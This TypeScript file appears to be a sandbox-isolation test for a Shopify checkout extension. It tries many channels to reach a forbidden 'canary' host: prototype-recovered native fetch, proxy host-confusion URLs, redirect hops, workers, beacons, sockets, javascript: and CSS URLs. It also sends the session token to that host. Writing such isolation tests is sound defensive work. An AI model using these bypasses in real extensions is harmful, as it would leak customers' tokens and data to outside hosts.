/**
 * Tries to reach three addresses in every way that a bundle has: a canary, which it must never reach; an allowed host;
 * and the sandbox's own endpoints. Ends with a text that names each way and how it ended.
 */
declare const shopify: {
  settings: { value: Record<'canary' | 'allowed' | 'sandbox', string> };
  sessionToken: { get(): Promise<string> };
};
declare const process: { env: { APP_URL: string } };

type Global = Record<string, (...args: unknown[]) => unknown>;
type Constructor = new (...args: unknown[]) => Record<string, unknown>;

/** The functions that the sandbox's runtime hides, where prototypes still have them. */
const native = Object.getPrototypeOf(Object.getPrototypeOf(globalThis)) as Global;
const nativeFetch = (url: string, init?: RequestInit) =>
  native.fetch!.call(globalThis, url, init) as Promise<Response>;
const NO_CORS: RequestInit = { mode: 'no-cors' };

const proxied = (kind: string, url: string) => {
  const { protocol, host, pathname, search } = new URL(url);
  const path = `${kind}/${protocol.slice(0, -1)}/${encodeURIComponent(host)}${pathname}${search}`;
  return `${process.env.APP_URL}/.sandbox-proxy/${path}`;
};

const construct = (name: string, ...args: unknown[]) =>
  new (Reflect.get(globalThis, name) as Constructor)(...args);

const settled = (target: Record<string, unknown>, ...events: string[]) =>
  new Promise((resolve) => {
    for (const event of events) target[`on${event}`] = () => resolve(event);
  });

function ways(canary: string, allowed: string): Record<string, () => unknown> {
  const wsUrl = canary.replace('http', 'ws');
  const hop = `${allowed}/redirect?to=${encodeURIComponent(`${canary}/redirected`)}`;
  const worker = (script: string) =>
    construct('Worker', URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
  const ask = (script: string) =>
    settled(worker(`${script}.finally(() => postMessage(1))`), 'message', 'error');
  return {
    fetch: () => fetch(`${canary}/fetch`),
    'fetch without CORS': () => fetch(`${canary}/no-cors`, NO_CORS),
    'fetch of a Request': () => fetch(new Request(`${canary}/request`, { method: 'POST', body: 'stolen' })),
    'native fetch': () => nativeFetch(`${canary}/native`, NO_CORS),
    'native fetch with keepalive': () => nativeFetch(`${canary}/keepalive`, { ...NO_CORS, keepalive: true }),
    'native fetch of another port': () => nativeFetch(canary.replace('127.0.0.1', 'localhost'), NO_CORS),
    'proxy, plain': () => nativeFetch(proxied('plain', `${canary}/plain`), NO_CORS),
    'proxy, as if with the token': () => nativeFetch(proxied('token', `${canary}/token`), NO_CORS),
    'proxy, with the allowed host as user': () =>
      nativeFetch(
        `${process.env.APP_URL}/.sandbox-proxy/plain/http/${encodeURIComponent(`${new URL(allowed).host}@${new URL(canary).host}`)}/`,
        NO_CORS,
      ),
    'redirect by the allowed host': () => fetch(hop),
    'redirect by the allowed host, native': () => nativeFetch(proxied('plain', hop), NO_CORS),
    'redirect in the proxy, manual': () =>
      nativeFetch(proxied('plain', hop), { ...NO_CORS, redirect: 'manual' }),
    importScripts: () => native.importScripts!.call(globalThis, `${canary}/script.js`),
    'dynamic import': () => import(/* @vite-ignore */ `${canary}/module.js`),
    XMLHttpRequest: () => {
      const request = construct('XMLHttpRequest') as unknown as XMLHttpRequest;
      request.open('GET', `${canary}/xhr`);
      request.send();
      return settled(request as never, 'load', 'error');
    },
    WebSocket: () => settled(construct('WebSocket', wsUrl), 'open', 'error'),
    EventSource: () => settled(construct('EventSource', `${canary}/events`), 'open', 'error'),
    sendBeacon: () => (navigator as Navigator).sendBeacon(`${canary}/beacon`, 'stolen'),
    'nested worker': () => ask(`fetch('${canary}/nested', { mode: 'no-cors' })`),
    'nested worker with importScripts': () =>
      settled(worker(`importScripts('${canary}/nested.js')`), 'error'),
    FontFace: () => (construct('FontFace', 'Stolen', `url(${canary}/font)`).load as () => unknown)(),
    'window.open': () => native.open!.call(globalThis, `${canary}/open`),
    location: () => Reflect.set(location, 'href', `${canary}/location`),
    'navigation.navigate': () =>
      (Reflect.get(globalThis, 'navigation') as unknown as Global).navigate!(`${canary}/navigate`),
  };
}

/** Renders everything in an extension's tree that could load or open a URL. */
async function renderElements(canary: string, allowed: string): Promise<void> {
  const add = async (tag: string, properties: Record<string, string>) => {
    const element = Object.assign(document.createElement(tag), properties);
    element.setAttribute('style', `background: url(${canary}/style)`);
    document.body.append(element);
    // Each in a separate batch: the page drops the rest of a batch with an element that it rejects.
    await new Promise((resolve) => setTimeout(resolve));
  };
  const hop = `${allowed}/redirect?to=${encodeURIComponent(`${canary}/image`)}`;
  for (const src of [
    `${canary}/image`,
    hop,
    proxied('plain', `${canary}/image`),
    `javascript:fetch('${canary}')`,
  ]) {
    await add('s-image', { src, alt: src });
    await add('s-product-thumbnail', { src });
  }
  await add('s-image', { src: `${allowed}/image.svg`, alt: 'allowed' });
  await add('s-link', { href: `${canary}/link` });
  await add('s-button', { href: `${canary}/button` });
  await add('s-box', { background: `url(${canary}/box)`, border: `url(${canary}/border)` });
  await add('link', { rel: 'stylesheet', href: `${canary}/sheet` });
  await add('iframe', { src: `${canary}/frame` });
  await add('img', { src: `${canary}/img` });
}

const MINT: RequestInit = {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ target: 'purchase.checkout.block.render', customer: '1' }),
};

export default async () => {
  const { canary, allowed, sandbox } = shopify.settings.value;
  const mint = `${sandbox}/sandbox/session-token?page=0123-4567-89ab`;
  const token = await shopify.sessionToken.get();
  const endings: string[] = [];
  const attempt = async (name: string, way: () => unknown) => {
    try {
      const result = await way();
      const text = result instanceof Response && result.type === 'cors' ? await result.text() : '';
      endings.push(`${name} → returned ${text}`);
    } catch (error) {
      endings.push(`${name} → ${(error as Error).name}: ${(error as Error).message}`);
    }
  };
  const never = new Promise((resolve) => setTimeout(resolve, 2_000, 'nothing'));
  await Promise.all(
    Object.entries(ways(canary, allowed)).map(([name, way]) =>
      attempt(name, () => Promise.race([way(), never])),
    ),
  );
  await attempt('mint', () => nativeFetch(mint, MINT));
  await attempt('mint through the proxy', () => nativeFetch(proxied('plain', mint), MINT));
  await attempt('mint as if with the token', () => nativeFetch(proxied('token', mint), MINT));
  await renderElements(canary, allowed);
  const Authorization = `Bearer ${token}`;
  await attempt('token elsewhere', () =>
    fetch(`${canary}/api/session-token`, { headers: { Authorization } }),
  );
  await attempt('allowed', () => fetch(`${allowed}/hello`));
  await attempt('allowed, with the token', () => fetch(`${allowed}/hello`, { headers: { Authorization } }));
  const list = document.createElement('s-text');
  list.textContent = endings.join('\n');
  document.body.append(list, 'Tried everything');
};
